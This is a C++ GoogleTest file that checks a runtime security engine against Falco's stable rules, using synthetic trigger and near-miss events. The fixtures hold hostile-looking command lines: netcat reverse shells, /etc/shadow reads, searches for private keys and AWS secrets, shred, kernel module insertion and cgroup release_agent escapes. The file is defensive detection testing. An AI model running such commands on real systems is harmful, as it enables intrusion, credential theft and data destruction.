// Falco compatibility: with Falco's stable falco_rules.yaml loaded, each of
// its 25 rules fires on a synthetic event reproducing its trigger (notes
// sections 2.3 and 5.1, the event-generator actions) and stays silent on a
// near miss that changes one fact. Skips loudly without ../shared/data.
#include <fcntl.h>

#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "runtime/rules/dns_cache.hpp"
#include "runtime/rules/fake_state.hpp"
#include "test_support.hpp"

namespace bulwark::runtime::rules {
namespace {

using testing::Fires;
using testing::Scene;

constexpr uint64_t kCapSysAdmin = uint64_t{1} << 21;
constexpr uint64_t kCapSysModule = uint64_t{1} << 16;
constexpr const char* kContainer = "3ad7b26ded6d";

class FalcoCompat : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto data = bulwark::testing::SharedData();
    if (!data) return;
    dns_ = new DnsCache();
    dns_->Set("kubernetes.default.svc.cluster.local", {*ParseIp("10.96.0.1")});
    LoadResult result;
    engine_ = Engine::Load({{"falco_rules.yaml", bulwark::testing::ReadFile(*data / "falco-rules/falco_rules.yaml")}},
                           result, dns_)
                  .release();
    ASSERT_EQ(result.ErrorCount(), 0u);
  }
  static void TearDownTestSuite() {
    delete engine_;
    delete dns_;
    engine_ = nullptr;
    dns_ = nullptr;
  }
  void SetUp() override {
    if (engine_ == nullptr) {
      GTEST_SKIP() << "SKIPPED: ../shared/data not found (conformance data is only present in the development "
                      "workspace; set BULWARK_SHARED_DATA)";
    }
  }

  // Fires on `hit`, not on `miss`.
  static void Expect(const std::string& rule, const Scene& hit, const Scene& miss) {
    EXPECT_TRUE(Fires(*engine_, hit, rule)) << rule << " did not fire on its trigger";
    EXPECT_FALSE(Fires(*engine_, miss, rule)) << rule << " fired on the near miss";
  }

  // A process `comm` (pid 100) with parent `parent` (pid 50) under init; in
  // a container when `container` is set.
  static Scene Proc(const std::string& comm, std::vector<std::string> args, const std::string& parent = "python3",
                    bool container = false) {
    Scene s;
    s.state.Add(50, 1, parent);
    Process& p = s.state.Add(100, 50, comm, std::move(args));
    if (container) {
      s.state.AddContainer(kContainer, "docker.io/library/app");
      p.container_id = kContainer;
      s.state.procs[50].container_id = kContainer;
    }
    return s;
  }

  static Scene ExecOf(const std::string& comm, std::vector<std::string> args, const std::string& parent = "python3",
                      bool container = false) {
    Scene s = Proc(comm, std::move(args), parent, container);
    s.Exec(100);
    return s;
  }

  static inline Engine* engine_ = nullptr;
  static inline DnsCache* dns_ = nullptr;
};

TEST_F(FalcoCompat, DirectoryTraversalMonitoredFileRead) {
  Scene hit = Proc("cat", {"/etc/../etc/../etc/shadow"}, "env");
  hit.Open(100, "/etc/shadow", O_RDONLY, 3, "/etc/../etc/../etc/shadow");
  Scene miss = Proc("cat", {"/etc/../etc/../etc/shadow"}, "bash");  // the parent is a shell
  miss.Open(100, "/etc/shadow", O_RDONLY, 3, "/etc/../etc/../etc/shadow");
  Expect("Directory traversal monitored file read", hit, miss);
  // A failed open (fd.num -1, evt.res ENOENT) counts too.
  Scene failed = Proc("cat", {}, "env");
  failed.Open(100, "/etc/nothere", O_RDONLY, -2, "/etc/../etc/../etc/nothere");
  EXPECT_TRUE(Fires(*engine_, failed, "Directory traversal monitored file read"));
}

TEST_F(FalcoCompat, ReadSensitiveFileTrustedAfterStartup) {
  Scene hit = Proc("httpd", {});
  hit.Open(100, "/etc/shadow", O_RDONLY);
  Scene miss = Proc("httpd", {});
  miss.state.procs[100].start_ts_ns = miss.evt.ts_ns - 1'000'000'000;  // 1 s old: still starting up
  miss.Open(100, "/etc/shadow", O_RDONLY);
  Expect("Read sensitive file trusted after startup", hit, miss);
}

TEST_F(FalcoCompat, ReadSensitiveFileUntrusted) {
  Scene hit = Proc("cat", {"/etc/shadow"});
  hit.Open(100, "/etc/shadow", O_RDONLY);
  Scene miss = Proc("sshd", {});  // trusted reader
  miss.Open(100, "/etc/shadow", O_RDONLY);
  Expect("Read sensitive file untrusted", hit, miss);
  Scene pam = Proc("cat", {});
  pam.Open(100, "/etc/pam.d/common-auth", O_RDONLY);
  EXPECT_TRUE(Fires(*engine_, pam, "Read sensitive file untrusted"));
  Scene write = Proc("cat", {});
  write.Open(100, "/etc/shadow", O_WRONLY);
  EXPECT_FALSE(Fires(*engine_, write, "Read sensitive file untrusted"));
}

TEST_F(FalcoCompat, RunShellUntrusted) {
  Scene hit = ExecOf("sh", {"-c", "ls > /dev/null"}, "httpd");
  Scene miss = ExecOf("sh", {"-c", "ls > /dev/null"}, "bash");
  Expect("Run shell untrusted", hit, miss);
  // Any ancestor, not only the parent: nginx -> python3 -> sh.
  Scene deep = ExecOf("sh", {"-c", "id"}, "python3");
  deep.state.procs[50].ppid = 40;
  deep.state.Add(40, 1, "nginx");
  EXPECT_TRUE(Fires(*engine_, deep, "Run shell untrusted"));
  // Known harmless command lines are excluded.
  Scene known = ExecOf("sh", {"-c", "uname -s 2>&1"}, "httpd");
  EXPECT_FALSE(Fires(*engine_, known, "Run shell untrusted"));
}

TEST_F(FalcoCompat, SystemUserInteractive) {
  Scene hit = ExecOf("login", {});
  hit.state.procs[100].user_name = "daemon";
  Scene miss = ExecOf("login", {});  // root
  Expect("System user interactive", hit, miss);
}

TEST_F(FalcoCompat, TerminalShellInContainer) {
  Scene hit = ExecOf("bash", {}, "runc:[1:CHILD]", true);
  hit.state.procs[100].tty = 34816;
  Scene miss = ExecOf("bash", {}, "runc:[1:CHILD]", true);  // no terminal
  Expect("Terminal shell in container", hit, miss);
  // The parent may already be gone (`not proc.pname exists`).
  Scene orphan = ExecOf("sh", {}, "runc", true);
  orphan.state.procs[100].tty = 34816;
  orphan.state.procs[100].ppid = 999;
  EXPECT_TRUE(Fires(*engine_, orphan, "Terminal shell in container"));
  Scene host = ExecOf("bash", {}, "runc");
  host.state.procs[100].tty = 34816;
  EXPECT_FALSE(Fires(*engine_, host, "Terminal shell in container"));
}

TEST_F(FalcoCompat, ContactK8sApiServerFromContainer) {
  Scene hit = Proc("curl", {"https://kubernetes.default"}, "sh", true);
  hit.Start(EventType::kConnect, 100);
  hit.Socket4({172, 17, 0, 2}, 40000, {10, 96, 0, 1}, 443);
  Scene miss = hit;
  miss.state.containers[kContainer].k8s_ns_name = "kube-system";
  Expect("Contact K8S API Server From Container", hit, miss);
  Scene elsewhere = Proc("curl", {}, "sh", true);
  elsewhere.Start(EventType::kConnect, 100);
  elsewhere.Socket4({172, 17, 0, 2}, 40000, {10, 96, 0, 2}, 443);
  EXPECT_FALSE(Fires(*engine_, elsewhere, "Contact K8S API Server From Container"));
}

TEST_F(FalcoCompat, NetcatRemoteCodeExecutionInContainer) {
  Scene hit = ExecOf("nc", {"-e", "/bin/sh", "example.com", "22"}, "sh", true);
  Scene miss = ExecOf("nc", {"example.com", "22"}, "sh", true);
  Expect("Netcat Remote Code Execution in Container", hit, miss);
  Scene ncat = ExecOf("ncat", {"--sh-exec", "id", "example.com"}, "sh", true);
  EXPECT_TRUE(Fires(*engine_, ncat, "Netcat Remote Code Execution in Container"));
}

TEST_F(FalcoCompat, SearchPrivateKeysOrPasswords) {
  Scene hit = ExecOf("find", {"/tmp", "-maxdepth", "1", "-iname", "id_rsa"});
  Scene miss = ExecOf("find", {"/tmp", "-maxdepth", "1", "-iname", "notes.txt"});
  Expect("Search Private Keys or Passwords", hit, miss);
  Scene grep = ExecOf("grep", {"-r", "begin rsa private", "/home"});  // icontains
  EXPECT_TRUE(Fires(*engine_, grep, "Search Private Keys or Passwords"));
}

TEST_F(FalcoCompat, ClearLogActivities) {
  Scene hit = Proc("bash", {});
  hit.Open(100, "/tmp/x/syslog", O_WRONLY | O_CREAT | O_TRUNC);
  Scene miss = Proc("bash", {});
  miss.Open(100, "/tmp/x/syslog", O_WRONLY | O_CREAT | O_APPEND);
  Expect("Clear Log Activities", hit, miss);
  Scene varlog = Proc("bash", {});
  varlog.Open(100, "/var/log/app.log", O_WRONLY | O_TRUNC);
  EXPECT_TRUE(Fires(*engine_, varlog, "Clear Log Activities"));
}

TEST_F(FalcoCompat, RemoveBulkDataFromDisk) {
  Scene hit = ExecOf("shred", {"-u", "/tmp/file"});
  Scene miss = ExecOf("rm", {"-f", "/tmp/file"});
  Expect("Remove Bulk Data from Disk", hit, miss);
}

TEST_F(FalcoCompat, CreateSymlinkOverSensitiveFiles) {
  Scene hit = Proc("ln", {"-s", "/etc", "/tmp/x/etc_link"});
  hit.Start(EventType::kSymlinkat, 100);
  hit.Arg("target", ArgKind::kPath).text = "/etc";
  hit.Arg("linkdirfd", ArgKind::kFd).num = -100;
  hit.Arg("linkpath", ArgKind::kPath).text = "/tmp/x/etc_link";
  Scene miss = hit;
  miss.evt.args[0].text = "/tmp/data";
  Expect("Create Symlink Over Sensitive Files", hit, miss);
}

TEST_F(FalcoCompat, CreateHardlinkOverSensitiveFiles) {
  Scene hit = Proc("ln", {"-v", "/etc/shadow", "/tmp/x/shadow_link"});
  hit.Start(EventType::kLinkat, 100);
  hit.Arg("olddir", ArgKind::kFd).num = -100;
  hit.Arg("oldpath", ArgKind::kPath).text = "/etc/shadow";
  hit.Arg("newdir", ArgKind::kFd).num = -100;
  hit.Arg("newpath", ArgKind::kPath).text = "/tmp/x/shadow_link";
  Scene miss = hit;
  miss.evt.args[1].text = "/etc/hosts";
  Expect("Create Hardlink Over Sensitive Files", hit, miss);
}

TEST_F(FalcoCompat, PacketSocketCreatedInContainer) {
  Scene hit = Proc("tcpdump", {}, "sh", true);
  hit.Start(EventType::kSocket, 100, 3);
  hit.Arg("domain", ArgKind::kSocketDomain).num = 17;  // AF_PACKET
  hit.Arg("type", ArgKind::kSocketType).num = 3;       // SOCK_RAW
  hit.Arg("proto", ArgKind::kInt).num = 768;
  Scene miss = hit;
  miss.evt.args[0].num = 2;  // AF_INET
  Expect("Packet socket created in container", hit, miss);
}

TEST_F(FalcoCompat, RedirectStdoutStdinToNetworkConnectionInContainer) {
  Scene hit = Proc("bash", {"-i"}, "sh", true);
  hit.Start(EventType::kDup2, 100, 0);
  hit.Arg("oldfd", ArgKind::kFd).num = 3;
  hit.Arg("newfd", ArgKind::kFd).num = 0;
  hit.Socket4({172, 17, 0, 2}, 40000, {203, 0, 113, 5}, 4444);
  Scene miss = hit;
  miss.evt.res = 7;
  Expect("Redirect STDOUT/STDIN to Network Connection in Container", hit, miss);
}

TEST_F(FalcoCompat, LinuxKernelModuleInjectionDetected) {
  Scene hit = Proc("insmod", {"evil.ko"}, "sh", true);
  hit.state.procs[100].cap_effective = kCapSysModule | kCapSysAdmin;
  hit.Start(EventType::kFinitModule, 100);
  hit.Arg("fd", ArgKind::kFd).num = 3;
  Scene miss = hit;
  miss.state.procs[100].cap_effective = kCapSysAdmin;
  Expect("Linux Kernel Module Injection Detected", hit, miss);
}

TEST_F(FalcoCompat, DebugfsLaunchedInPrivilegedContainer) {
  Scene hit = ExecOf("debugfs", {"-V"}, "sh", true);
  hit.state.containers[kContainer].privileged = true;
  Scene miss = ExecOf("debugfs", {"-V"}, "sh", true);
  Expect("Debugfs Launched in Privileged Container", hit, miss);
}

TEST_F(FalcoCompat, DetectReleaseAgentFileContainerEscapes) {
  Scene hit = Proc("sh", {"-c", "echo x > release_agent"}, "bash", true);
  hit.state.procs[100].cap_effective = kCapSysAdmin;
  hit.Open(100, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY | O_CREAT | O_TRUNC);
  Scene miss = Proc("sh", {"-c", "echo x > release_agent"}, "bash", true);
  miss.Open(100, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY | O_CREAT | O_TRUNC);  // no CAP_SYS_ADMIN
  Expect("Detect release_agent File Container Escapes", hit, miss);
}

TEST_F(FalcoCompat, PtraceAttachedToProcess) {
  Scene hit = Proc("gdb", {"-p", "4242"});
  hit.Start(EventType::kPtrace, 100);
  hit.Arg("request", ArgKind::kPtraceRequest).num = 16;  // PTRACE_ATTACH
  hit.Arg("pid", ArgKind::kPid).num = 4242;
  Scene miss = hit;
  miss.evt.args[0].num = 2;  // PTRACE_PEEKDATA
  Expect("PTRACE attached to process", hit, miss);
}

TEST_F(FalcoCompat, PtraceAntiDebugAttempt) {
  Scene hit = Proc("sleep", {"3600"});
  hit.Start(EventType::kPtrace, 100);
  hit.Arg("request", ArgKind::kPtraceRequest).num = 0;  // PTRACE_TRACEME
  hit.Arg("pid", ArgKind::kPid).num = 0;
  Scene miss = hit;
  miss.evt.args[0].num = 16;
  Expect("PTRACE anti-debug attempt", hit, miss);
}

TEST_F(FalcoCompat, FindAwsCredentials) {
  Scene hit = ExecOf("find", {"/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"});
  Scene miss = ExecOf("find", {"/tmp", "-maxdepth", "1", "-iname", ".aws/config"});
  Expect("Find AWS Credentials", hit, miss);
  Scene grep = ExecOf("grep", {"-ri", "AWS_SECRET_ACCESS_KEY", "/home"});
  EXPECT_TRUE(Fires(*engine_, grep, "Find AWS Credentials"));
}

TEST_F(FalcoCompat, ExecutionFromDevShm) {
  Scene hit = ExecOf("x.sh", {}, "sh");
  hit.state.procs[100].exe = "/dev/shm/x.sh";
  Scene miss = ExecOf("x.sh", {}, "sh");
  miss.state.procs[100].exe = "/tmp/x.sh";
  Expect("Execution from /dev/shm", hit, miss);
  Scene shell = ExecOf("sh", {"-c", "/dev/shm/x.sh"}, "python3");
  EXPECT_TRUE(Fires(*engine_, shell, "Execution from /dev/shm"));
}

TEST_F(FalcoCompat, DropAndExecuteNewBinaryInContainer) {
  Scene hit = ExecOf("xyzzy", {}, "sh", true);
  hit.state.procs[100].exe_upper_layer = true;
  Scene miss = ExecOf("xyzzy", {}, "sh", true);
  Expect("Drop and execute new binary in container", hit, miss);
}

TEST_F(FalcoCompat, DisallowedSshConnectionNonStandardPort) {
  Scene hit = Proc("ssh", {"user@example.com", "-p", "443"}, "bash");
  hit.state.procs[100].exe = "/usr/bin/ssh";
  hit.Start(EventType::kConnect, 100, -115);  // EINPROGRESS
  hit.Socket4({192, 168, 1, 10}, 50000, {93, 184, 216, 34}, 443);
  Scene miss = hit;
  miss.fd.remote.port = 22;
  Expect("Disallowed SSH Connection Non Standard Port", hit, miss);
  Scene private_ip = hit;
  private_ip.fd.remote.ip = {10, 1, 2, 3};
  EXPECT_FALSE(Fires(*engine_, private_ip, "Disallowed SSH Connection Non Standard Port"));
  Scene refused = hit;
  refused.evt.res = -111;  // ECONNREFUSED
  EXPECT_FALSE(Fires(*engine_, refused, "Disallowed SSH Connection Non Standard Port"));
}

TEST_F(FalcoCompat, FilelessExecutionViaMemfdCreate) {
  Scene hit = ExecOf("3", {}, "python3");
  hit.state.procs[100].exe_from_memfd = true;
  hit.state.procs[100].exepath = "memfd:x";
  Scene miss = ExecOf("runc", {"init"}, "containerd-shim");
  miss.state.procs[100].exe_from_memfd = true;
  Expect("Fileless execution via memfd_create", hit, miss);
}

// The alert carries Falco's fields: rendered output, output_fields keyed as
// written, <NA> / null for missing values, sorted tags, hostname.
TEST_F(FalcoCompat, AlertShape) {
  Scene s = ExecOf("shred", {"-u", "/tmp/file"}, "bash");
  std::vector<Alert> alerts;
  ASSERT_EQ(engine_->Evaluate(s.Context(), alerts), 1u);
  const Alert& a = alerts[0];
  EXPECT_EQ(a.rule, "Remove Bulk Data from Disk");
  EXPECT_EQ(a.priority, Priority::kWarning);
  EXPECT_EQ(a.source, "syscall");
  EXPECT_EQ(a.hostname, "test-host");
  EXPECT_EQ(a.time_ns, s.evt.ts_ns);
  EXPECT_EQ(a.output,
            "Bulk data has been removed from disk | file=<NA> evt_type=execve user=root user_uid=0 "
            "user_loginuid=-1 process=shred proc_exepath=/usr/bin/shred parent=bash command=shred -u /tmp/file "
            "terminal=0 exe_flags=0");
  ASSERT_FALSE(a.output_fields.empty());
  EXPECT_EQ(a.output_fields[0].first, "fd.name");
  EXPECT_FALSE(a.output_fields[0].second.has_value());
  EXPECT_EQ(a.output_fields[1].first, "evt.type");
  EXPECT_EQ(a.output_fields[1].second, "execve");
  std::vector<std::string> tags = {"T1485", "container", "filesystem", "host", "maturity_stable", "mitre_impact",
                                   "process"};
  EXPECT_EQ(a.tags, tags);
}

}  // namespace
}  // namespace bulwark::runtime::rules
